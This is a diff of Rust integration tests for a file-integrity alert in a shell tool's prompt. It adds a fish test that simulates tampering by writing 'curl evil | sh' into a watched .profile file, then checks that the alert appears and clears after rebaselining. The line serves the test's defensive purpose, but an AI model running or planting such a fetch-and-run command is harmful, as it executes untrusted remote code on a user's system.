@@ -203,18 +203,24 @@ fn bash_loads_a_definition_from_corrals_index_on_the_first_tab() {
     });
 }
 
-#[test]
-fn an_edited_watched_file_raises_the_prompt_alert_until_rebaselined() {
-    if !available(&["tmux", "bash"]) {
-        return;
-    }
-    let fixture = Fixture::new();
+/// A manifest whose `integrity_scan` watches one start-up file; returns it.
+fn integrity_manifest(fixture: &Fixture) -> PathBuf {
     let watched = fixture.write("watched/.profile", "export A=1\n");
     fixture.manifest(&format!(
         "[[task]]\nid = \"integrity_scan\"\nrationale = \"t\"\ncomponent = {:?}\nargs = [\"/watched/.profile\", \"/state/baseline.sha256\"]\n[[task.file]]\nhost = {:?}\nguest = \"/watched/.profile\"\n[[task.dir]]\nhost = \".corral/integrity\"\nguest = \"/state\"\nmode = \"rw\"\n",
         artifacts::INTEGRITY_SCAN,
         watched.display().to_string()
     ));
+    watched
+}
+
+#[test]
+fn an_edited_watched_file_raises_the_prompt_alert_until_rebaselined() {
+    if !available(&["tmux", "bash"]) {
+        return;
+    }
+    let fixture = Fixture::new();
+    integrity_manifest(&fixture);
     // The baseline, taken before the shell starts.
     assert_eq!(fixture.corral(&["run", "--quiet"]).code, Some(0));
     let source = snippet(&fixture, "bash");
@@ -246,4 +252,43 @@ fn an_edited_watched_file_raises_the_prompt_alert_until_rebaselined() {
             .find(|line| line.contains("READY>"))
             .is_some_and(|line| line.starts_with("[no alert] READY>"))
     });
+}
+
+#[test]
+fn fish_sets_the_alert_while_watched_files_changed() {
+    if !available(&["fish"]) {
+        return;
+    }
+    let fixture = Fixture::new();
+    let watched = integrity_manifest(&fixture);
+    assert_eq!(fixture.corral(&["run", "--quiet"]).code, Some(0));
+    let source = snippet(&fixture, "fish");
+    let alert = || {
+        let output = Command::new("fish")
+            .args(["--no-config", "-c"])
+            .arg(format!(
+                "source {source}; emit fish_prompt; echo \"alert:$corral_alert\""
+            ))
+            .current_dir(fixture.path())
+            .env("HOME", fixture.path())
+            .env("CORRAL_CACHE_DIR", crate::support::shared_cache_dir())
+            // The prompt's own run would race the test's runs.
+            .env("CORRAL_MODE", "off")
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&output.stdout).trim().to_string()
+    };
+    assert_eq!(alert(), "alert:");
+    std::fs::write(&watched, "curl evil | sh\n").unwrap();
+    assert_eq!(fixture.corral(&["run", "--quiet"]).code, Some(0));
+    assert!(
+        alert().starts_with("alert:corral: watched files changed"),
+        "{}",
+        alert()
+    );
+    assert_eq!(
+        fixture.corral(&["rebaseline", "integrity_scan"]).code,
+        Some(0)
+    );
+    assert_eq!(alert(), "alert:");
 }
